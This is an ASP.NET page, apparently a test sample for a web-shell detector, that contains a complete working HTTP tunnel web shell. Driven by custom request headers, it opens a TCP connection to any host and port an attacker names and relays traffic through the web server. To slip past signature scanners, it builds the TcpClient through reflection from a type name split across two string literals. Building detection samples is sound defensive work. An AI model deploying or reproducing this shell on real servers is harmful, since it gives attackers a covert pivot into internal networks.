<%@ Page Language="C#" %>
<%-- webhunt test sample (sweep 73): an HTTP tunnel whose TcpClient is made through reflection
     from a type name glued from two literals, kept in the session between requests --%>
<script runat="server">
void Page_Load(object s, EventArgs e) {
    string op = Request.Headers["X-Op"];
    if (op == "open") {
        string[] to = Request.Headers["X-To"].Split(':');
        var tt = System.Type.GetType("System.Net.Sockets." + "TcpClient, System");
        Session["c"] = System.Activator.CreateInstance(tt, new object[] { to[0], int.Parse(to[1]) });
    } else if (op == "send") {
        object cli = Session["c"];
        var ns = (System.IO.Stream) cli.GetType().GetMethod("GetStream").Invoke(cli, null);
        byte[] b = Request.BinaryRead(Request.TotalBytes);
        ns.Write(b, 0, b.Length);
    } else if (op == "recv") {
        object cli = Session["c"];
        var ns = (System.IO.Stream) cli.GetType().GetMethod("GetStream").Invoke(cli, null);
        byte[] buf = new byte[8192];
        int n = ns.Read(buf, 0, buf.Length);
        Response.OutputStream.Write(buf, 0, n);
    }
}
</script>
